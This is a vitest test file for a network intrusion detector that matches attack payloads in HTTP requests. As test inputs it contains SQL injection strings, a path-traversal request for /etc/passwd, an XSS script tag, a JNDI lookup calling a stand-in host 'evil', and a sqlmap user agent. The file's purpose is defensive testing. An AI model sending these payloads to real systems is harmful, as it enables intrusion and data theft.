import { describe, expect, it } from 'vitest'
import type { AppFact } from '../model/app-facts.ts'
import { defaultParams } from './detector.ts'
import { payloadIndicator } from './payload-indicator.ts'
import { matchRequest } from './taps/payload-rules.ts'
import { contextOf, tcpSession, type Pkt } from './test-traffic.ts'

const T0 = 1_700_000_000
const req = (uri: string, userAgent: string | null = 'Mozilla/5.0'): AppFact => ({ kind: 'http-request', method: 'GET', uri, version: 'HTTP/1.1', host: 'victim.example', userAgent })

describe('payload indicators', () => {
  it('matches injection tokens after percent-decoding and attack-tool agents', () => {
    expect(matchRequest('/item?id=1%27+UNION+SELECT+NULL%2C+version%28%29', null).map((r) => r.id)).toContain('sqli-union')
    expect(matchRequest("/login?u=admin' or 1=1--", null).map((r) => r.id)).toContain('sqli-tautology')
    expect(matchRequest('/page?f=../../../etc/passwd', null).map((r) => r.id)).toContain('traversal')
    expect(matchRequest('/x?q=%3Cscript%3Ealert(1)%3C/script%3E', null).map((r) => r.id)).toContain('xss-script')
    expect(matchRequest('/', '${jndi:ldap://evil/a}').map((r) => r.id)).toContain('jndi-ua')
    expect(matchRequest('/', 'sqlmap/1.7').map((r) => r.id)).toEqual(['tool-ua'])
  })

  it('does not match ordinary requests', () => {
    for (const uri of ['/', '/index.html', '/search?q=union+station+selection', '/api/v1/items?id=42&sort=asc', '/static/app.js?v=3', '/a/b/../c.png', '/%E2%82%AC%ZZ']) {
      expect(matchRequest(uri, 'Mozilla/5.0 (X11; Linux x86_64)')).toEqual([])
    }
  })

  it('groups matching requests per client and server, with the flow as evidence', () => {
    const pkts: Pkt[] = tcpSession(T0, '10.0.0.66:40000', '10.0.0.80:80')
    pkts[3] = { ...pkts[3], fact: req("/dvwa/sqli/?id=1' OR '1'='1"), app: 3 }
    const alerts = payloadIndicator.run(contextOf(pkts), defaultParams(payloadIndicator))
    expect(alerts.map((a) => [a.src[0], a.dst[0], a.evidence.length])).toEqual([['10.0.0.66', '10.0.0.80', 1]])
    expect(payloadIndicator.optIn).toBe(true)
  })
})
